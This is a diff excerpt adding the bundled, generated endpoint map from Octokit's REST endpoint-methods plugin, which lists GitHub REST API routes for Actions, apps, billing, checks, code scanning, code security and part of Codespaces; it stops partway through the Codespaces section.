+;// CONCATENATED MODULE: ./node_modules/@octokit/plugin-rest-endpoint-methods/dist-src/generated/endpoints.js
+const Endpoints = {
+  actions: {
+    addCustomLabelsToSelfHostedRunnerForOrg: [
+      "POST /orgs/{org}/actions/runners/{runner_id}/labels"
+    ],
+    addCustomLabelsToSelfHostedRunnerForRepo: [
+      "POST /repos/{owner}/{repo}/actions/runners/{runner_id}/labels"
+    ],
+    addRepoAccessToSelfHostedRunnerGroupInOrg: [
+      "PUT /orgs/{org}/actions/runner-groups/{runner_group_id}/repositories/{repository_id}"
+    ],
+    addSelectedRepoToOrgSecret: [
+      "PUT /orgs/{org}/actions/secrets/{secret_name}/repositories/{repository_id}"
+    ],
+    addSelectedRepoToOrgVariable: [
+      "PUT /orgs/{org}/actions/variables/{name}/repositories/{repository_id}"
+    ],
+    approveWorkflowRun: [
+      "POST /repos/{owner}/{repo}/actions/runs/{run_id}/approve"
+    ],
+    cancelWorkflowRun: [
+      "POST /repos/{owner}/{repo}/actions/runs/{run_id}/cancel"
+    ],
+    createEnvironmentVariable: [
+      "POST /repos/{owner}/{repo}/environments/{environment_name}/variables"
+    ],
+    createHostedRunnerForOrg: ["POST /orgs/{org}/actions/hosted-runners"],
+    createOrUpdateEnvironmentSecret: [
+      "PUT /repos/{owner}/{repo}/environments/{environment_name}/secrets/{secret_name}"
+    ],
+    createOrUpdateOrgSecret: ["PUT /orgs/{org}/actions/secrets/{secret_name}"],
+    createOrUpdateRepoSecret: [
+      "PUT /repos/{owner}/{repo}/actions/secrets/{secret_name}"
+    ],
+    createOrgVariable: ["POST /orgs/{org}/actions/variables"],
+    createRegistrationTokenForOrg: [
+      "POST /orgs/{org}/actions/runners/registration-token"
+    ],
+    createRegistrationTokenForRepo: [
+      "POST /repos/{owner}/{repo}/actions/runners/registration-token"
+    ],
+    createRemoveTokenForOrg: ["POST /orgs/{org}/actions/runners/remove-token"],
+    createRemoveTokenForRepo: [
+      "POST /repos/{owner}/{repo}/actions/runners/remove-token"
+    ],
+    createRepoVariable: ["POST /repos/{owner}/{repo}/actions/variables"],
+    createWorkflowDispatch: [
+      "POST /repos/{owner}/{repo}/actions/workflows/{workflow_id}/dispatches"
+    ],
+    deleteActionsCacheById: [
+      "DELETE /repos/{owner}/{repo}/actions/caches/{cache_id}"
+    ],
+    deleteActionsCacheByKey: [
+      "DELETE /repos/{owner}/{repo}/actions/caches{?key,ref}"
+    ],
+    deleteArtifact: [
+      "DELETE /repos/{owner}/{repo}/actions/artifacts/{artifact_id}"
+    ],
+    deleteCustomImageFromOrg: [
+      "DELETE /orgs/{org}/actions/hosted-runners/images/custom/{image_definition_id}"
+    ],
+    deleteCustomImageVersionFromOrg: [
+      "DELETE /orgs/{org}/actions/hosted-runners/images/custom/{image_definition_id}/versions/{version}"
+    ],
+    deleteEnvironmentSecret: [
+      "DELETE /repos/{owner}/{repo}/environments/{environment_name}/secrets/{secret_name}"
+    ],
+    deleteEnvironmentVariable: [
+      "DELETE /repos/{owner}/{repo}/environments/{environment_name}/variables/{name}"
+    ],
+    deleteHostedRunnerForOrg: [
+      "DELETE /orgs/{org}/actions/hosted-runners/{hosted_runner_id}"
+    ],
+    deleteOrgSecret: ["DELETE /orgs/{org}/actions/secrets/{secret_name}"],
+    deleteOrgVariable: ["DELETE /orgs/{org}/actions/variables/{name}"],
+    deleteRepoSecret: [
+      "DELETE /repos/{owner}/{repo}/actions/secrets/{secret_name}"
+    ],
+    deleteRepoVariable: [
+      "DELETE /repos/{owner}/{repo}/actions/variables/{name}"
+    ],
+    deleteSelfHostedRunnerFromOrg: [
+      "DELETE /orgs/{org}/actions/runners/{runner_id}"
+    ],
+    deleteSelfHostedRunnerFromRepo: [
+      "DELETE /repos/{owner}/{repo}/actions/runners/{runner_id}"
+    ],
+    deleteWorkflowRun: ["DELETE /repos/{owner}/{repo}/actions/runs/{run_id}"],
+    deleteWorkflowRunLogs: [
+      "DELETE /repos/{owner}/{repo}/actions/runs/{run_id}/logs"
+    ],
+    disableSelectedRepositoryGithubActionsOrganization: [
+      "DELETE /orgs/{org}/actions/permissions/repositories/{repository_id}"
+    ],
+    disableWorkflow: [
+      "PUT /repos/{owner}/{repo}/actions/workflows/{workflow_id}/disable"
+    ],
+    downloadArtifact: [
+      "GET /repos/{owner}/{repo}/actions/artifacts/{artifact_id}/{archive_format}"
+    ],
+    downloadJobLogsForWorkflowRun: [
+      "GET /repos/{owner}/{repo}/actions/jobs/{job_id}/logs"
+    ],
+    downloadWorkflowRunAttemptLogs: [
+      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}/logs"
+    ],
+    downloadWorkflowRunLogs: [
+      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/logs"
+    ],
+    enableSelectedRepositoryGithubActionsOrganization: [
+      "PUT /orgs/{org}/actions/permissions/repositories/{repository_id}"
+    ],
+    enableWorkflow: [
+      "PUT /repos/{owner}/{repo}/actions/workflows/{workflow_id}/enable"
+    ],
+    forceCancelWorkflowRun: [
+      "POST /repos/{owner}/{repo}/actions/runs/{run_id}/force-cancel"
+    ],
+    generateRunnerJitconfigForOrg: [
+      "POST /orgs/{org}/actions/runners/generate-jitconfig"
+    ],
+    generateRunnerJitconfigForRepo: [
+      "POST /repos/{owner}/{repo}/actions/runners/generate-jitconfig"
+    ],
+    getActionsCacheList: ["GET /repos/{owner}/{repo}/actions/caches"],
+    getActionsCacheUsage: ["GET /repos/{owner}/{repo}/actions/cache/usage"],
+    getActionsCacheUsageByRepoForOrg: [
+      "GET /orgs/{org}/actions/cache/usage-by-repository"
+    ],
+    getActionsCacheUsageForOrg: ["GET /orgs/{org}/actions/cache/usage"],
+    getAllowedActionsOrganization: [
+      "GET /orgs/{org}/actions/permissions/selected-actions"
+    ],
+    getAllowedActionsRepository: [
+      "GET /repos/{owner}/{repo}/actions/permissions/selected-actions"
+    ],
+    getArtifact: ["GET /repos/{owner}/{repo}/actions/artifacts/{artifact_id}"],
+    getCustomImageForOrg: [
+      "GET /orgs/{org}/actions/hosted-runners/images/custom/{image_definition_id}"
+    ],
+    getCustomImageVersionForOrg: [
+      "GET /orgs/{org}/actions/hosted-runners/images/custom/{image_definition_id}/versions/{version}"
+    ],
+    getCustomOidcSubClaimForRepo: [
+      "GET /repos/{owner}/{repo}/actions/oidc/customization/sub"
+    ],
+    getEnvironmentPublicKey: [
+      "GET /repos/{owner}/{repo}/environments/{environment_name}/secrets/public-key"
+    ],
+    getEnvironmentSecret: [
+      "GET /repos/{owner}/{repo}/environments/{environment_name}/secrets/{secret_name}"
+    ],
+    getEnvironmentVariable: [
+      "GET /repos/{owner}/{repo}/environments/{environment_name}/variables/{name}"
+    ],
+    getGithubActionsDefaultWorkflowPermissionsOrganization: [
+      "GET /orgs/{org}/actions/permissions/workflow"
+    ],
+    getGithubActionsDefaultWorkflowPermissionsRepository: [
+      "GET /repos/{owner}/{repo}/actions/permissions/workflow"
+    ],
+    getGithubActionsPermissionsOrganization: [
+      "GET /orgs/{org}/actions/permissions"
+    ],
+    getGithubActionsPermissionsRepository: [
+      "GET /repos/{owner}/{repo}/actions/permissions"
+    ],
+    getHostedRunnerForOrg: [
+      "GET /orgs/{org}/actions/hosted-runners/{hosted_runner_id}"
+    ],
+    getHostedRunnersGithubOwnedImagesForOrg: [
+      "GET /orgs/{org}/actions/hosted-runners/images/github-owned"
+    ],
+    getHostedRunnersLimitsForOrg: [
+      "GET /orgs/{org}/actions/hosted-runners/limits"
+    ],
+    getHostedRunnersMachineSpecsForOrg: [
+      "GET /orgs/{org}/actions/hosted-runners/machine-sizes"
+    ],
+    getHostedRunnersPartnerImagesForOrg: [
+      "GET /orgs/{org}/actions/hosted-runners/images/partner"
+    ],
+    getHostedRunnersPlatformsForOrg: [
+      "GET /orgs/{org}/actions/hosted-runners/platforms"
+    ],
+    getJobForWorkflowRun: ["GET /repos/{owner}/{repo}/actions/jobs/{job_id}"],
+    getOrgPublicKey: ["GET /orgs/{org}/actions/secrets/public-key"],
+    getOrgSecret: ["GET /orgs/{org}/actions/secrets/{secret_name}"],
+    getOrgVariable: ["GET /orgs/{org}/actions/variables/{name}"],
+    getPendingDeploymentsForRun: [
+      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/pending_deployments"
+    ],
+    getRepoPermissions: [
+      "GET /repos/{owner}/{repo}/actions/permissions",
+      {},
+      { renamed: ["actions", "getGithubActionsPermissionsRepository"] }
+    ],
+    getRepoPublicKey: ["GET /repos/{owner}/{repo}/actions/secrets/public-key"],
+    getRepoSecret: ["GET /repos/{owner}/{repo}/actions/secrets/{secret_name}"],
+    getRepoVariable: ["GET /repos/{owner}/{repo}/actions/variables/{name}"],
+    getReviewsForRun: [
+      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/approvals"
+    ],
+    getSelfHostedRunnerForOrg: ["GET /orgs/{org}/actions/runners/{runner_id}"],
+    getSelfHostedRunnerForRepo: [
+      "GET /repos/{owner}/{repo}/actions/runners/{runner_id}"
+    ],
+    getWorkflow: ["GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}"],
+    getWorkflowAccessToRepository: [
+      "GET /repos/{owner}/{repo}/actions/permissions/access"
+    ],
+    getWorkflowRun: ["GET /repos/{owner}/{repo}/actions/runs/{run_id}"],
+    getWorkflowRunAttempt: [
+      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}"
+    ],
+    getWorkflowRunUsage: [
+      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/timing"
+    ],
+    getWorkflowUsage: [
+      "GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}/timing"
+    ],
+    listArtifactsForRepo: ["GET /repos/{owner}/{repo}/actions/artifacts"],
+    listCustomImageVersionsForOrg: [
+      "GET /orgs/{org}/actions/hosted-runners/images/custom/{image_definition_id}/versions"
+    ],
+    listCustomImagesForOrg: [
+      "GET /orgs/{org}/actions/hosted-runners/images/custom"
+    ],
+    listEnvironmentSecrets: [
+      "GET /repos/{owner}/{repo}/environments/{environment_name}/secrets"
+    ],
+    listEnvironmentVariables: [
+      "GET /repos/{owner}/{repo}/environments/{environment_name}/variables"
+    ],
+    listGithubHostedRunnersInGroupForOrg: [
+      "GET /orgs/{org}/actions/runner-groups/{runner_group_id}/hosted-runners"
+    ],
+    listHostedRunnersForOrg: ["GET /orgs/{org}/actions/hosted-runners"],
+    listJobsForWorkflowRun: [
+      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/jobs"
+    ],
+    listJobsForWorkflowRunAttempt: [
+      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/attempts/{attempt_number}/jobs"
+    ],
+    listLabelsForSelfHostedRunnerForOrg: [
+      "GET /orgs/{org}/actions/runners/{runner_id}/labels"
+    ],
+    listLabelsForSelfHostedRunnerForRepo: [
+      "GET /repos/{owner}/{repo}/actions/runners/{runner_id}/labels"
+    ],
+    listOrgSecrets: ["GET /orgs/{org}/actions/secrets"],
+    listOrgVariables: ["GET /orgs/{org}/actions/variables"],
+    listRepoOrganizationSecrets: [
+      "GET /repos/{owner}/{repo}/actions/organization-secrets"
+    ],
+    listRepoOrganizationVariables: [
+      "GET /repos/{owner}/{repo}/actions/organization-variables"
+    ],
+    listRepoSecrets: ["GET /repos/{owner}/{repo}/actions/secrets"],
+    listRepoVariables: ["GET /repos/{owner}/{repo}/actions/variables"],
+    listRepoWorkflows: ["GET /repos/{owner}/{repo}/actions/workflows"],
+    listRunnerApplicationsForOrg: ["GET /orgs/{org}/actions/runners/downloads"],
+    listRunnerApplicationsForRepo: [
+      "GET /repos/{owner}/{repo}/actions/runners/downloads"
+    ],
+    listSelectedReposForOrgSecret: [
+      "GET /orgs/{org}/actions/secrets/{secret_name}/repositories"
+    ],
+    listSelectedReposForOrgVariable: [
+      "GET /orgs/{org}/actions/variables/{name}/repositories"
+    ],
+    listSelectedRepositoriesEnabledGithubActionsOrganization: [
+      "GET /orgs/{org}/actions/permissions/repositories"
+    ],
+    listSelfHostedRunnersForOrg: ["GET /orgs/{org}/actions/runners"],
+    listSelfHostedRunnersForRepo: ["GET /repos/{owner}/{repo}/actions/runners"],
+    listWorkflowRunArtifacts: [
+      "GET /repos/{owner}/{repo}/actions/runs/{run_id}/artifacts"
+    ],
+    listWorkflowRuns: [
+      "GET /repos/{owner}/{repo}/actions/workflows/{workflow_id}/runs"
+    ],
+    listWorkflowRunsForRepo: ["GET /repos/{owner}/{repo}/actions/runs"],
+    reRunJobForWorkflowRun: [
+      "POST /repos/{owner}/{repo}/actions/jobs/{job_id}/rerun"
+    ],
+    reRunWorkflow: ["POST /repos/{owner}/{repo}/actions/runs/{run_id}/rerun"],
+    reRunWorkflowFailedJobs: [
+      "POST /repos/{owner}/{repo}/actions/runs/{run_id}/rerun-failed-jobs"
+    ],
+    removeAllCustomLabelsFromSelfHostedRunnerForOrg: [
+      "DELETE /orgs/{org}/actions/runners/{runner_id}/labels"
+    ],
+    removeAllCustomLabelsFromSelfHostedRunnerForRepo: [
+      "DELETE /repos/{owner}/{repo}/actions/runners/{runner_id}/labels"
+    ],
+    removeCustomLabelFromSelfHostedRunnerForOrg: [
+      "DELETE /orgs/{org}/actions/runners/{runner_id}/labels/{name}"
+    ],
+    removeCustomLabelFromSelfHostedRunnerForRepo: [
+      "DELETE /repos/{owner}/{repo}/actions/runners/{runner_id}/labels/{name}"
+    ],
+    removeSelectedRepoFromOrgSecret: [
+      "DELETE /orgs/{org}/actions/secrets/{secret_name}/repositories/{repository_id}"
+    ],
+    removeSelectedRepoFromOrgVariable: [
+      "DELETE /orgs/{org}/actions/variables/{name}/repositories/{repository_id}"
+    ],
+    reviewCustomGatesForRun: [
+      "POST /repos/{owner}/{repo}/actions/runs/{run_id}/deployment_protection_rule"
+    ],
+    reviewPendingDeploymentsForRun: [
+      "POST /repos/{owner}/{repo}/actions/runs/{run_id}/pending_deployments"
+    ],
+    setAllowedActionsOrganization: [
+      "PUT /orgs/{org}/actions/permissions/selected-actions"
+    ],
+    setAllowedActionsRepository: [
+      "PUT /repos/{owner}/{repo}/actions/permissions/selected-actions"
+    ],
+    setCustomLabelsForSelfHostedRunnerForOrg: [
+      "PUT /orgs/{org}/actions/runners/{runner_id}/labels"
+    ],
+    setCustomLabelsForSelfHostedRunnerForRepo: [
+      "PUT /repos/{owner}/{repo}/actions/runners/{runner_id}/labels"
+    ],
+    setCustomOidcSubClaimForRepo: [
+      "PUT /repos/{owner}/{repo}/actions/oidc/customization/sub"
+    ],
+    setGithubActionsDefaultWorkflowPermissionsOrganization: [
+      "PUT /orgs/{org}/actions/permissions/workflow"
+    ],
+    setGithubActionsDefaultWorkflowPermissionsRepository: [
+      "PUT /repos/{owner}/{repo}/actions/permissions/workflow"
+    ],
+    setGithubActionsPermissionsOrganization: [
+      "PUT /orgs/{org}/actions/permissions"
+    ],
+    setGithubActionsPermissionsRepository: [
+      "PUT /repos/{owner}/{repo}/actions/permissions"
+    ],
+    setSelectedReposForOrgSecret: [
+      "PUT /orgs/{org}/actions/secrets/{secret_name}/repositories"
+    ],
+    setSelectedReposForOrgVariable: [
+      "PUT /orgs/{org}/actions/variables/{name}/repositories"
+    ],
+    setSelectedRepositoriesEnabledGithubActionsOrganization: [
+      "PUT /orgs/{org}/actions/permissions/repositories"
+    ],
+    setWorkflowAccessToRepository: [
+      "PUT /repos/{owner}/{repo}/actions/permissions/access"
+    ],
+    updateEnvironmentVariable: [
+      "PATCH /repos/{owner}/{repo}/environments/{environment_name}/variables/{name}"
+    ],
+    updateHostedRunnerForOrg: [
+      "PATCH /orgs/{org}/actions/hosted-runners/{hosted_runner_id}"
+    ],
+    updateOrgVariable: ["PATCH /orgs/{org}/actions/variables/{name}"],
+    updateRepoVariable: [
+      "PATCH /repos/{owner}/{repo}/actions/variables/{name}"
+    ]
+  },
+  activity: {
+    checkRepoIsStarredByAuthenticatedUser: ["GET /user/starred/{owner}/{repo}"],
+    deleteRepoSubscription: ["DELETE /repos/{owner}/{repo}/subscription"],
+    deleteThreadSubscription: [
+      "DELETE /notifications/threads/{thread_id}/subscription"
+    ],
+    getFeeds: ["GET /feeds"],
+    getRepoSubscription: ["GET /repos/{owner}/{repo}/subscription"],
+    getThread: ["GET /notifications/threads/{thread_id}"],
+    getThreadSubscriptionForAuthenticatedUser: [
+      "GET /notifications/threads/{thread_id}/subscription"
+    ],
+    listEventsForAuthenticatedUser: ["GET /users/{username}/events"],
+    listNotificationsForAuthenticatedUser: ["GET /notifications"],
+    listOrgEventsForAuthenticatedUser: [
+      "GET /users/{username}/events/orgs/{org}"
+    ],
+    listPublicEvents: ["GET /events"],
+    listPublicEventsForRepoNetwork: ["GET /networks/{owner}/{repo}/events"],
+    listPublicEventsForUser: ["GET /users/{username}/events/public"],
+    listPublicOrgEvents: ["GET /orgs/{org}/events"],
+    listReceivedEventsForUser: ["GET /users/{username}/received_events"],
+    listReceivedPublicEventsForUser: [
+      "GET /users/{username}/received_events/public"
+    ],
+    listRepoEvents: ["GET /repos/{owner}/{repo}/events"],
+    listRepoNotificationsForAuthenticatedUser: [
+      "GET /repos/{owner}/{repo}/notifications"
+    ],
+    listReposStarredByAuthenticatedUser: ["GET /user/starred"],
+    listReposStarredByUser: ["GET /users/{username}/starred"],
+    listReposWatchedByUser: ["GET /users/{username}/subscriptions"],
+    listStargazersForRepo: ["GET /repos/{owner}/{repo}/stargazers"],
+    listWatchedReposForAuthenticatedUser: ["GET /user/subscriptions"],
+    listWatchersForRepo: ["GET /repos/{owner}/{repo}/subscribers"],
+    markNotificationsAsRead: ["PUT /notifications"],
+    markRepoNotificationsAsRead: ["PUT /repos/{owner}/{repo}/notifications"],
+    markThreadAsDone: ["DELETE /notifications/threads/{thread_id}"],
+    markThreadAsRead: ["PATCH /notifications/threads/{thread_id}"],
+    setRepoSubscription: ["PUT /repos/{owner}/{repo}/subscription"],
+    setThreadSubscription: [
+      "PUT /notifications/threads/{thread_id}/subscription"
+    ],
+    starRepoForAuthenticatedUser: ["PUT /user/starred/{owner}/{repo}"],
+    unstarRepoForAuthenticatedUser: ["DELETE /user/starred/{owner}/{repo}"]
+  },
+  apps: {
+    addRepoToInstallation: [
+      "PUT /user/installations/{installation_id}/repositories/{repository_id}",
+      {},
+      { renamed: ["apps", "addRepoToInstallationForAuthenticatedUser"] }
+    ],
+    addRepoToInstallationForAuthenticatedUser: [
+      "PUT /user/installations/{installation_id}/repositories/{repository_id}"
+    ],
+    checkToken: ["POST /applications/{client_id}/token"],
+    createFromManifest: ["POST /app-manifests/{code}/conversions"],
+    createInstallationAccessToken: [
+      "POST /app/installations/{installation_id}/access_tokens"
+    ],
+    deleteAuthorization: ["DELETE /applications/{client_id}/grant"],
+    deleteInstallation: ["DELETE /app/installations/{installation_id}"],
+    deleteToken: ["DELETE /applications/{client_id}/token"],
+    getAuthenticated: ["GET /app"],
+    getBySlug: ["GET /apps/{app_slug}"],
+    getInstallation: ["GET /app/installations/{installation_id}"],
+    getOrgInstallation: ["GET /orgs/{org}/installation"],
+    getRepoInstallation: ["GET /repos/{owner}/{repo}/installation"],
+    getSubscriptionPlanForAccount: [
+      "GET /marketplace_listing/accounts/{account_id}"
+    ],
+    getSubscriptionPlanForAccountStubbed: [
+      "GET /marketplace_listing/stubbed/accounts/{account_id}"
+    ],
+    getUserInstallation: ["GET /users/{username}/installation"],
+    getWebhookConfigForApp: ["GET /app/hook/config"],
+    getWebhookDelivery: ["GET /app/hook/deliveries/{delivery_id}"],
+    listAccountsForPlan: ["GET /marketplace_listing/plans/{plan_id}/accounts"],
+    listAccountsForPlanStubbed: [
+      "GET /marketplace_listing/stubbed/plans/{plan_id}/accounts"
+    ],
+    listInstallationReposForAuthenticatedUser: [
+      "GET /user/installations/{installation_id}/repositories"
+    ],
+    listInstallationRequestsForAuthenticatedApp: [
+      "GET /app/installation-requests"
+    ],
+    listInstallations: ["GET /app/installations"],
+    listInstallationsForAuthenticatedUser: ["GET /user/installations"],
+    listPlans: ["GET /marketplace_listing/plans"],
+    listPlansStubbed: ["GET /marketplace_listing/stubbed/plans"],
+    listReposAccessibleToInstallation: ["GET /installation/repositories"],
+    listSubscriptionsForAuthenticatedUser: ["GET /user/marketplace_purchases"],
+    listSubscriptionsForAuthenticatedUserStubbed: [
+      "GET /user/marketplace_purchases/stubbed"
+    ],
+    listWebhookDeliveries: ["GET /app/hook/deliveries"],
+    redeliverWebhookDelivery: [
+      "POST /app/hook/deliveries/{delivery_id}/attempts"
+    ],
+    removeRepoFromInstallation: [
+      "DELETE /user/installations/{installation_id}/repositories/{repository_id}",
+      {},
+      { renamed: ["apps", "removeRepoFromInstallationForAuthenticatedUser"] }
+    ],
+    removeRepoFromInstallationForAuthenticatedUser: [
+      "DELETE /user/installations/{installation_id}/repositories/{repository_id}"
+    ],
+    resetToken: ["PATCH /applications/{client_id}/token"],
+    revokeInstallationAccessToken: ["DELETE /installation/token"],
+    scopeToken: ["POST /applications/{client_id}/token/scoped"],
+    suspendInstallation: ["PUT /app/installations/{installation_id}/suspended"],
+    unsuspendInstallation: [
+      "DELETE /app/installations/{installation_id}/suspended"
+    ],
+    updateWebhookConfigForApp: ["PATCH /app/hook/config"]
+  },
+  billing: {
+    getGithubActionsBillingOrg: ["GET /orgs/{org}/settings/billing/actions"],
+    getGithubActionsBillingUser: [
+      "GET /users/{username}/settings/billing/actions"
+    ],
+    getGithubBillingPremiumRequestUsageReportOrg: [
+      "GET /organizations/{org}/settings/billing/premium_request/usage"
+    ],
+    getGithubBillingPremiumRequestUsageReportUser: [
+      "GET /users/{username}/settings/billing/premium_request/usage"
+    ],
+    getGithubBillingUsageReportOrg: [
+      "GET /organizations/{org}/settings/billing/usage"
+    ],
+    getGithubBillingUsageReportUser: [
+      "GET /users/{username}/settings/billing/usage"
+    ],
+    getGithubPackagesBillingOrg: ["GET /orgs/{org}/settings/billing/packages"],
+    getGithubPackagesBillingUser: [
+      "GET /users/{username}/settings/billing/packages"
+    ],
+    getSharedStorageBillingOrg: [
+      "GET /orgs/{org}/settings/billing/shared-storage"
+    ],
+    getSharedStorageBillingUser: [
+      "GET /users/{username}/settings/billing/shared-storage"
+    ]
+  },
+  campaigns: {
+    createCampaign: ["POST /orgs/{org}/campaigns"],
+    deleteCampaign: ["DELETE /orgs/{org}/campaigns/{campaign_number}"],
+    getCampaignSummary: ["GET /orgs/{org}/campaigns/{campaign_number}"],
+    listOrgCampaigns: ["GET /orgs/{org}/campaigns"],
+    updateCampaign: ["PATCH /orgs/{org}/campaigns/{campaign_number}"]
+  },
+  checks: {
+    create: ["POST /repos/{owner}/{repo}/check-runs"],
+    createSuite: ["POST /repos/{owner}/{repo}/check-suites"],
+    get: ["GET /repos/{owner}/{repo}/check-runs/{check_run_id}"],
+    getSuite: ["GET /repos/{owner}/{repo}/check-suites/{check_suite_id}"],
+    listAnnotations: [
+      "GET /repos/{owner}/{repo}/check-runs/{check_run_id}/annotations"
+    ],
+    listForRef: ["GET /repos/{owner}/{repo}/commits/{ref}/check-runs"],
+    listForSuite: [
+      "GET /repos/{owner}/{repo}/check-suites/{check_suite_id}/check-runs"
+    ],
+    listSuitesForRef: ["GET /repos/{owner}/{repo}/commits/{ref}/check-suites"],
+    rerequestRun: [
+      "POST /repos/{owner}/{repo}/check-runs/{check_run_id}/rerequest"
+    ],
+    rerequestSuite: [
+      "POST /repos/{owner}/{repo}/check-suites/{check_suite_id}/rerequest"
+    ],
+    setSuitesPreferences: [
+      "PATCH /repos/{owner}/{repo}/check-suites/preferences"
+    ],
+    update: ["PATCH /repos/{owner}/{repo}/check-runs/{check_run_id}"]
+  },
+  codeScanning: {
+    commitAutofix: [
+      "POST /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/autofix/commits"
+    ],
+    createAutofix: [
+      "POST /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/autofix"
+    ],
+    createVariantAnalysis: [
+      "POST /repos/{owner}/{repo}/code-scanning/codeql/variant-analyses"
+    ],
+    deleteAnalysis: [
+      "DELETE /repos/{owner}/{repo}/code-scanning/analyses/{analysis_id}{?confirm_delete}"
+    ],
+    deleteCodeqlDatabase: [
+      "DELETE /repos/{owner}/{repo}/code-scanning/codeql/databases/{language}"
+    ],
+    getAlert: [
+      "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}",
+      {},
+      { renamedParameters: { alert_id: "alert_number" } }
+    ],
+    getAnalysis: [
+      "GET /repos/{owner}/{repo}/code-scanning/analyses/{analysis_id}"
+    ],
+    getAutofix: [
+      "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/autofix"
+    ],
+    getCodeqlDatabase: [
+      "GET /repos/{owner}/{repo}/code-scanning/codeql/databases/{language}"
+    ],
+    getDefaultSetup: ["GET /repos/{owner}/{repo}/code-scanning/default-setup"],
+    getSarif: ["GET /repos/{owner}/{repo}/code-scanning/sarifs/{sarif_id}"],
+    getVariantAnalysis: [
+      "GET /repos/{owner}/{repo}/code-scanning/codeql/variant-analyses/{codeql_variant_analysis_id}"
+    ],
+    getVariantAnalysisRepoTask: [
+      "GET /repos/{owner}/{repo}/code-scanning/codeql/variant-analyses/{codeql_variant_analysis_id}/repos/{repo_owner}/{repo_name}"
+    ],
+    listAlertInstances: [
+      "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/instances"
+    ],
+    listAlertsForOrg: ["GET /orgs/{org}/code-scanning/alerts"],
+    listAlertsForRepo: ["GET /repos/{owner}/{repo}/code-scanning/alerts"],
+    listAlertsInstances: [
+      "GET /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}/instances",
+      {},
+      { renamed: ["codeScanning", "listAlertInstances"] }
+    ],
+    listCodeqlDatabases: [
+      "GET /repos/{owner}/{repo}/code-scanning/codeql/databases"
+    ],
+    listRecentAnalyses: ["GET /repos/{owner}/{repo}/code-scanning/analyses"],
+    updateAlert: [
+      "PATCH /repos/{owner}/{repo}/code-scanning/alerts/{alert_number}"
+    ],
+    updateDefaultSetup: [
+      "PATCH /repos/{owner}/{repo}/code-scanning/default-setup"
+    ],
+    uploadSarif: ["POST /repos/{owner}/{repo}/code-scanning/sarifs"]
+  },
+  codeSecurity: {
+    attachConfiguration: [
+      "POST /orgs/{org}/code-security/configurations/{configuration_id}/attach"
+    ],
+    attachEnterpriseConfiguration: [
+      "POST /enterprises/{enterprise}/code-security/configurations/{configuration_id}/attach"
+    ],
+    createConfiguration: ["POST /orgs/{org}/code-security/configurations"],
+    createConfigurationForEnterprise: [
+      "POST /enterprises/{enterprise}/code-security/configurations"
+    ],
+    deleteConfiguration: [
+      "DELETE /orgs/{org}/code-security/configurations/{configuration_id}"
+    ],
+    deleteConfigurationForEnterprise: [
+      "DELETE /enterprises/{enterprise}/code-security/configurations/{configuration_id}"
+    ],
+    detachConfiguration: [
+      "DELETE /orgs/{org}/code-security/configurations/detach"
+    ],
+    getConfiguration: [
+      "GET /orgs/{org}/code-security/configurations/{configuration_id}"
+    ],
+    getConfigurationForRepository: [
+      "GET /repos/{owner}/{repo}/code-security-configuration"
+    ],
+    getConfigurationsForEnterprise: [
+      "GET /enterprises/{enterprise}/code-security/configurations"
+    ],
+    getConfigurationsForOrg: ["GET /orgs/{org}/code-security/configurations"],
+    getDefaultConfigurations: [
+      "GET /orgs/{org}/code-security/configurations/defaults"
+    ],
+    getDefaultConfigurationsForEnterprise: [
+      "GET /enterprises/{enterprise}/code-security/configurations/defaults"
+    ],
+    getRepositoriesForConfiguration: [
+      "GET /orgs/{org}/code-security/configurations/{configuration_id}/repositories"
+    ],
+    getRepositoriesForEnterpriseConfiguration: [
+      "GET /enterprises/{enterprise}/code-security/configurations/{configuration_id}/repositories"
+    ],
+    getSingleConfigurationForEnterprise: [
+      "GET /enterprises/{enterprise}/code-security/configurations/{configuration_id}"
+    ],
+    setConfigurationAsDefault: [
+      "PUT /orgs/{org}/code-security/configurations/{configuration_id}/defaults"
+    ],
+    setConfigurationAsDefaultForEnterprise: [
+      "PUT /enterprises/{enterprise}/code-security/configurations/{configuration_id}/defaults"
+    ],
+    updateConfiguration: [
+      "PATCH /orgs/{org}/code-security/configurations/{configuration_id}"
+    ],
+    updateEnterpriseConfiguration: [
+      "PATCH /enterprises/{enterprise}/code-security/configurations/{configuration_id}"
+    ]
+  },
+  codesOfConduct: {
+    getAllCodesOfConduct: ["GET /codes_of_conduct"],
+    getConductCode: ["GET /codes_of_conduct/{key}"]
+  },
+  codespaces: {
+    addRepositoryForSecretForAuthenticatedUser: [
+      "PUT /user/codespaces/secrets/{secret_name}/repositories/{repository_id}"
+    ],
+    addSelectedRepoToOrgSecret: [
+      "PUT /orgs/{org}/codespaces/secrets/{secret_name}/repositories/{repository_id}"
+    ],
+    checkPermissionsForDevcontainer: [
+      "GET /repos/{owner}/{repo}/codespaces/permissions_check"
+    ],
+    codespaceMachinesForAuthenticatedUser: [
+      "GET /user/codespaces/{codespace_name}/machines"
+    ],
+    createForAuthenticatedUser: ["POST /user/codespaces"],
+    createOrUpdateOrgSecret: [
+      "PUT /orgs/{org}/codespaces/secrets/{secret_name}"
+    ],
+    createOrUpdateRepoSecret: [
+      "PUT /repos/{owner}/{repo}/codespaces/secrets/{secret_name}"
+    ],
+    createOrUpdateSecretForAuthenticatedUser: [
+      "PUT /user/codespaces/secrets/{secret_name}"
+    ],
+    createWithPrForAuthenticatedUser: [
+      "POST /repos/{owner}/{repo}/pulls/{pull_number}/codespaces"
+    ],
+    createWithRepoForAuthenticatedUser: [
+      "POST /repos/{owner}/{repo}/codespaces"
+    ],
+    deleteForAuthenticatedUser: ["DELETE /user/codespaces/{codespace_name}"],
+    deleteFromOrganization: [
